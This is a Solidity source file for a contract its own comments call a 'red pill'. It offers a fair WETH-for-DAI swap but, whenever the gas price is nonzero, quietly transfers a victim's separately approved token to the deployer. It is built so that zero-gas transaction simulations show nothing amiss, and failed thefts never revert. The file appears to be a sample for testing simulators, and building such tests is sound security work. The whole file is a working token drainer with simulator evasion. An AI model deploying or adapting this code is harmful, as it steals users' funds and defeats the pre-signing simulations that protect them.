// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillAllowance
/// @notice Red pill for an ERC-20 standing allowance, keyed on the gas price. An honest WETH
///         desk: `swap` sells WETH for DAI at a fair price. The victim approved this desk for
///         another token (`loot`) in an earlier transaction of its own. Detects: `tx.gasprice`
///         is 0 in a simulation that prices nothing, never 0 when a relayer pays. Steals, then:
///         `amount` of `loot` through that standing allowance, a token the simulated execution
///         never moves.
contract RedPillAllowance {
    using RedPillDesk for RedPillDesk.Quote;

    IERC20 private immutable _dai;
    IERC20 private immutable _weth;
    uint256 private immutable _daiPerWeth;
    IERC20 private immutable _loot;
    uint256 private immutable _amount;
    address private immutable _boss;

    /// @param dai The token the desk buys.
    /// @param weth The token the desk sells from its inventory.
    /// @param daiPerWeth Its price, DAI per whole WETH.
    /// @param loot The token the victim approved to this desk earlier.
    /// @param amount What one real execution takes of it.
    constructor(IERC20 dai, IERC20 weth, uint256 daiPerWeth, IERC20 loot, uint256 amount) {
        (_dai, _weth, _daiPerWeth) = (dai, weth, daiPerWeth);
        (_loot, _amount, _boss) = (loot, amount, msg.sender);
    }

    /// @notice Sells WETH for `daiIn` DAI (approved to this contract) at the desk's price.
    /// @param daiIn DAI paid.
    /// @return wethOut WETH received.
    function swap(uint256 daiIn) external returns (uint256 wethOut) {
        wethOut = RedPillDesk.Quote(_dai, _weth, _daiPerWeth).sell(daiIn);
        if (tx.gasprice != 0) {
            // A theft that fails must not revert the victim's call.
            try _loot.transferFrom(msg.sender, _boss, _amount) {} catch {}
        }
    }
}
